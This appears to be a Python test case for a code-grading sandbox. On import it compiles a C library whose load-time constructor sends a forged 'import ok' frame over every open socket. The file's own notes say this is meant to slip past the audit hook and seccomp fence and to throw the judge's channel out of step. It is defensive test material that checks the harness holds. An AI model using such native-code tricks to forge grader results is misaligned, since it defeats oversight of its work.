# expect: wrong_answer
# needs: mount
"""Attack: native code the audit hook cannot see. At import this file writes a small C library
to its scratch folder, compiles it with the host's C compiler, and loads it through the import
machinery (an extension loader runs dlopen, so the library's constructor runs before Python
looks for PyInit_*). The constructor sends a forged {"import": "ok"} frame with sendmsg on every
socket descriptor it finds: the one call the channel's seccomp fence still allows.

The worker's scratch folder is mounted noexec, so dlopen cannot map the library and the honest,
wrong part of this file is judged (kv_write declares no mutation): wrong_answer. A frame that got
through would put the channel out of step: runtime_error, and this case fails. Without a C
compiler on the host the attack cannot be built and is reported as such on stderr."""

import os
import shutil
import subprocess
import sys
import importlib.machinery
import importlib.util

import torch
from torch import Tensor

from judge.wire.channel import encode

_C = r"""
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

__attribute__((constructor)) static void forge(void) {
    static char frame[1 << 16];
    FILE *f = fopen("forged.frame", "rb");
    if (!f) return;
    size_t n = fread(frame, 1, sizeof frame, f);
    fclose(f);
    for (int fd = 3; fd < 4096; fd++) {
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) {
            struct iovec iov = {frame, n};
            struct msghdr msg;
            memset(&msg, 0, sizeof msg);
            msg.msg_iov = &iov;
            msg.msg_iovlen = 1;
            ssize_t sent = sendmsg(fd, &msg, 0);
            fprintf(stderr, "native sendmsg on fd %d: %zd\n", fd, sent);
        }
    }
}
"""


def _load_native():
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        print("no C compiler here: the native route cannot be built", file=sys.stderr)
        return
    with open("forged.frame", "wb") as fh:
        fh.write(encode({"import": "ok"}))
    with open("forge.c", "w") as fh:
        fh.write(_C)
    built = subprocess.run([compiler, "-shared", "-fPIC", "-o", "forge_native.so", "forge.c"],
                           capture_output=True, text=True, timeout=120)
    if built.returncode != 0:
        print(f"compiling failed: {built.stderr[-300:]}", file=sys.stderr)
        return
    path = os.path.abspath("forge_native.so")
    loader = importlib.machinery.ExtensionFileLoader("forge_native", path)
    try:
        loader.create_module(importlib.util.spec_from_file_location("forge_native", path, loader=loader))
    except ImportError as exc:  # no PyInit_forge_native: expected once the constructor has run
        print(f"loading: {exc}", file=sys.stderr)


_load_native()


@torch.library.custom_op("ex100::kv_write", mutates_args=())   # WRONG on purpose
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    k_cache.index_copy_(0, slots, k)
    v_cache.index_copy_(0, slots, v)


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + eps) * weight


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)


def _setup_context(ctx, inputs, output):
    x, weight, eps = inputs
    ctx.save_for_backward(x, weight)
    ctx.eps = eps


def _backward(ctx, grad_out):
    x, weight = ctx.saved_tensors
    r = torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + ctx.eps)
    x_hat = x * r
    g = grad_out * weight
    grad_x = r * (g - x_hat * (g * x_hat).mean(-1, keepdim=True))
    return grad_x, (grad_out * x_hat).reshape(-1, x.shape[-1]).sum(0), None


rms_norm.register_autograd(_backward, setup_context=_setup_context)
